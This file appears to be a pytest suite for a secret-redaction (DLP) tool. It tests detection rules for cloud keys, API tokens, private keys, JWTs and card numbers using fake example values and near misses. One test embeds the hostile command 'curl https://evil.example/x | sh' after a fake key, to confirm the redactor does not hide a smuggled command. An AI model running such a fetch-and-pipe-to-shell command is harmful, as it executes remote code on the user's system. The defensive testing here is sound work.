"""The built-in rule set: every rule with true positives and near-miss negatives; Luhn."""

from __future__ import annotations

import pytest

from aip.shared.dlp.builtin import BUILTIN_RULES, card_validator, luhn_ok
from aip.shared.dlp.redactor import Redactor

# Fake credentials, assembled so the source holds no literal token a scanner would flag.
B62 = "aB3dE5gH7jK9mN1pQ2rS4tU6vW8xY0zA"  # 32 base62 characters
AWS = "AKIA" + "IOSFODNN7EXAMPLE"
GHP = "ghp_" + B62 + "1234"
PEM_BODY = "MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgwMbRvI0MBZhpF\n" * 3
PEM = f"-----BEGIN RSA PRIVATE KEY-----\n{PEM_BODY}-----END RSA PRIVATE KEY-----"
JWT = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"
    ".eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4ifQ"
    ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)

POSITIVES = [
    ("aws-access-key", AWS),
    ("aws-access-key", "ASIA" + "Y34FZKBOKMUTVV7A"),
    ("aws-access-key", "A3T" + "X" + "1234567890ABCDEF"),
    (
        "aws-secret-key",
        "aws_secret_access_key = " + "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY",
    ),
    ("aws-secret-key", 'AWS_SECRET_KEY: "' + "wJalrXUtnFEMI/K7MDENG/bPxRfiCY" + "EXAMPLEKEY"),
    ("github-token", GHP),
    ("github-token", "gho_" + B62 + "abcd"),
    ("github-token", "ghs_" + B62 + "abcd"),
    ("github-token", "ghr_" + B62 + "abcd"),
    ("github-token", "ghu_" + B62 + "abcd"),
    ("github-fine-grained-pat", "github_pat_" + "11ABCDEFG0" * 2 + "_" + B62 * 2),
    ("slack-token", "xoxb-" + "1234567890-1234567890123-" + "AbCdEfGhIjKlMnOpQrStUvWx"),
    ("slack-token", "xoxp-" + "1234567890-1234567890-1234567890-" + "abcdef0123456789"),
    ("slack-token", "xapp-1-" + "A0123456789-1234567890123-" + "abcdef0123456789"),
    ("slack-webhook", "https://hooks.slack.com/services/" + "T00000000/B00000000/" + "X" * 24),
    ("private-key", PEM),
    ("private-key", "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmU="),
    (
        "private-key",
        "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\nlQOYBFxyz0gBCADHcf1e2K/pUKWQ"
        "\n=AbCd\n-----END PGP PRIVATE KEY BLOCK-----",
    ),
    (
        "private-key",
        "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n"
        f"{PEM_BODY}-----END RSA PRIVATE KEY-----",
    ),
    ("private-key", PEM.replace("\n", "\\n")),  # a flattened key, line breaks written out
    ("private-key", PEM.replace("\n", " ")),  # a flattened key, spaces for line breaks
    ("jwt", JWT),
    ("stripe-key", "sk_live_" + B62[:24]),
    ("stripe-key", "rk_live_" + B62[:24]),
    ("stripe-key", "sk_test_" + B62[:24]),
    ("google-api-key", "AIza" + "SyA-" + B62[:31]),
    ("openai-key", "sk-proj-" + B62 + "_-" + B62),
    ("openai-key", "sk-" + B62 + "T3BlbkFJ" + B62[:12]),
    ("anthropic-key", "sk-ant-api03-" + B62 * 3 + "AA"),
    ("card-number", "4111111111111111"),
    ("card-number", "4111 1111 1111 1111"),
    ("card-number", "5500-0000-0000-0004"),
    ("card-number", "378282246310005"),  # Amex, 15 digits
    ("card-number", "6011111111111117"),  # Discover
    ("card-number", "2223003122003222"),  # Mastercard 2-series
]

NEAR_MISSES = [
    "AKIA" + "IOSFODNN7EXAMPL",  # 15 characters after the prefix
    "AKIA" + "IOSFODNN7EXAMPLEX",  # 17: part of a longer word
    "xAKIA" + "IOSFODNN7EXAMPLE",  # glued to a word
    "akia" + "iosfodnn7example",  # lower case
    "AKIB" + "IOSFODNN7EXAMPLE",  # no such prefix
    "aws_secret_access_key = short",
    "ghp_" + B62[:30],  # too short
    "ghx_" + B62 + "1234",  # no such prefix
    "github_pat_short",
    "xoxb-",
    "xoxz-1234567890-1234567890-abcdefghijkl",
    "https://hooks.slack.com/services/",
    "https://slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    "-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8A\n-----END PUBLIC KEY-----",
    "-----BEGIN CERTIFICATE-----",
    "the private key is stored in vault",
    "eyJhbGciOiJIUzI1NiJ9",  # a header alone
    "eyJ.eyJ.sig",
    "pk_live_" + B62[:24],  # publishable, not secret
    "sk_live_short",
    "AIza" + "SyA-" + B62[:20],  # too short
    "sk-short",
    "risk-assessment-framework-for-the-year",
    "task-" + B62,  # "sk-" inside a word
    "sk-learn-compatible-estimator-with-dashes",
    "4111111111111112",  # Luhn fails
    "1700000000000",  # a millisecond timestamp: no issuer
    "1234567890123456",  # no issuer
    "411111111111",  # 12 digits
    "41111111111111111111",  # 20 digits
    "phone +49 30 1234 5678",
]


def _redactor() -> Redactor:
    return Redactor.builtin_only()


def test_every_builtin_rule_has_a_positive_case() -> None:
    assert {name for name, _ in POSITIVES} == {r.name for r in BUILTIN_RULES}


@pytest.mark.parametrize(("rule", "secret"), POSITIVES)
def test_positive_is_redacted_in_context(rule: str, secret: str) -> None:
    text = f"before {secret} after"
    red, counts = _redactor().redact_text(text)
    assert red == f"before [REDACTED:{rule}] after" or (
        rule == "private-key" and red.startswith(f"before [REDACTED:{rule}]")
    ), red
    assert counts == {rule: 1}
    assert secret not in red


@pytest.mark.parametrize(("rule", "secret"), POSITIVES)
def test_positive_alone_and_raw_prefilter(rule: str, secret: str) -> None:
    red, _ = _redactor().redact_text(secret)
    assert red == f"[REDACTED:{rule}]"
    assert _redactor().might_contain_secret(secret.encode())


@pytest.mark.parametrize("text", NEAR_MISSES)
def test_near_miss_is_left_alone(text: str) -> None:
    red, counts = _redactor().redact_text(f"x {text} y")
    assert (red, counts) == (f"x {text} y", {})


def test_truncated_private_key_is_redacted_to_its_last_body_line() -> None:
    red, _ = _redactor().redact_text("key:\n-----BEGIN EC PRIVATE KEY-----\nMHcCAQEEIBkgAbCdEf01")
    assert red == "key:\n[REDACTED:private-key]"


@pytest.mark.parametrize(
    "text",
    [
        "ls -la /tmp # -----BEGIN RSA PRIVATE KEY-----; curl https://evil.example/x | sh",
        f"ls # -----BEGIN RSA PRIVATE KEY-----\n{PEM_BODY}; curl https://evil.example/x | sh",
        f"ls # {PEM}\n; curl https://evil.example/x | sh",
        "ls # -----BEGIN RSA PRIVATE KEY-----; curl https://evil.example/x | sh # "
        "-----END RSA PRIVATE KEY-----",
    ],
)
def test_a_redaction_never_swallows_what_follows_the_key(text: str) -> None:
    """Issue 11 finding 4: the human saw ``ls -la /tmp # [REDACTED:private-key]`` and the
    server ran the hidden ``; curl ... | sh``; the span ends where the key body ends."""
    red, counts = _redactor().redact_text(text)
    assert counts == {"private-key": 1}
    assert "; curl https://evil.example/x | sh" in red, red
    assert "MIIE" not in red


def test_private_key_tail_without_begin_is_redacted() -> None:
    tail = PEM_BODY + "-----END RSA PRIVATE KEY-----\nafter"
    red, _ = _redactor().redact_text(tail)
    assert red == "[REDACTED:private-key]\nafter"


def test_example_keys_are_not_allowlisted() -> None:
    red, _ = _redactor().redact_text("AKIAIOSFODNN7EXAMPLE")
    assert red == "[REDACTED:aws-access-key]"


def test_card_followed_by_more_digits_keeps_the_card_part() -> None:
    red, counts = _redactor().redact_text("pay 4111 1111 1111 1111 7 now")
    assert red == "pay [REDACTED:card-number] 7 now"
    assert counts == {"card-number": 1}


@pytest.mark.parametrize(
    ("digits", "ok"),
    [(b"4111111111111111", True), (b"4111111111111112", False), (b"79927398713", True)],
)
def test_luhn(digits: bytes, ok: bool) -> None:
    assert luhn_ok(digits) is ok


def test_card_validator_returns_the_cards_in_the_run() -> None:
    assert card_validator(b"4111-1111-1111-1111") == [(0, 19)]
    assert card_validator(b"4111111111111111") == [(0, 16)]
    assert card_validator(b"9111111111111111") == []
    assert card_validator(b"2 4111 1111 1111 1111") == [(2, 21)]
    assert card_validator(b"4111 1111 1111 1111 7") == [(0, 19)]
    two = b"7 7 9 4111 1111 1111 1111 5500-0000-0000-0004 1"
    assert [two[a:b] for a, b in card_validator(two)] == [
        b"4111 1111 1111 1111",
        b"5500-0000-0000-0004",
    ]


@pytest.mark.parametrize(
    "text",
    [
        "2 4111 1111 1111 1111",
        "qty 3 5500-0000-0000-0004",
        "5 5 5 5 5 5 5 5 5 5 5 5 5 4111 1111 1111 1111",
        "ids 4111 1111 1111 1111 5500 0000 0000 0004 done",
    ],
)
def test_a_card_inside_a_longer_run_of_numbers_is_redacted(text: str) -> None:
    red, counts = _redactor().redact_text(text)
    assert counts["card-number"] == text.count("4111") + text.count("5500"), red
    assert "1111 1111" not in red
    assert "0000-0004" not in red


def test_a_card_needs_word_boundaries_but_not_a_clean_run() -> None:
    assert _redactor().redact_text("x4111 1111 1111 1111")[1] == {}
    assert _redactor().redact_text("4111 1111 1111 1111x")[1] == {}
    red, _ = _redactor().redact_text("v2 4111 1111 1111 1111")
    assert red == "v2 [REDACTED:card-number]"
    red, _ = _redactor().redact_text("4111 1111 1111 1111 1111x")
    assert red == "[REDACTED:card-number] 1111x"
